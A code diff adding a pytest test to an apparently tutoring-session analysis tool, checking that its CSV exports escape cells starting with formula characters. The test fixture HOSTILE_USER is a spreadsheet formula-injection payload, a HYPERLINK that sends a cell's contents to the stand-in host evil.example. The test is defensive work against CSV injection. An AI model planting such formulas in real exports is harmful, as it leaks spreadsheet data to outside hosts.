@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import base64
 import csv
+import dataclasses
 import io
 import json
 import re
@@ -445,6 +446,26 @@ def test_corpus_csv_has_a_row_per_session(summ: dict[str, Any]) -> None:
     assert rows[0]["tutor_user"] == "t-1" and rows[0]["student_user"] == "s-1"
     assert int(rows[0]["tutor_strokes"]) == 4 and int(rows[0]["student_points"]) == 30
     assert int(rows[0]["silence_count"]) == 1 and int(rows[0]["pages_used"]) == 2
+
+
+HOSTILE_USER = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_can_run_as_a_spreadsheet_formula(data: RecordingData, summ: dict[str, Any], first: str) -> None:
+    """The probe's user id and a session id like ``-2-3``: every text cell that a spreadsheet
+    would evaluate starts with an apostrophe, in the corpus and in the points CSV."""
+    other = json.loads(json.dumps(summ))
+    other["session_id"], other["participants"]["tutor"] = "-2-3", HOSTILE_USER
+    other["participants"]["student"] = first + "s"
+    row = next(csv.DictReader(io.StringIO(summary.corpus_csv([other]), newline="")))
+    assert (row["session_id"], row["tutor_user"]) == ("'-2-3", "'" + HOSTILE_USER)
+    assert row["student_user"] == "'" + first.replace("\r", "\n") + "s"
+    hostile = dataclasses.replace(data, session_id=first + "2-3")
+    points = list(csv.DictReader(io.StringIO(tables.points_csv(hostile), newline="")))
+    assert {r["session_id"] for r in points} == {"'" + first.replace("\r", "\n") + "2-3"}
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in points for k, cell in r.items()
+               if k in ("session_id", "seat"))
 
 
 # --- the replay page --------------------------------------------------------------------------
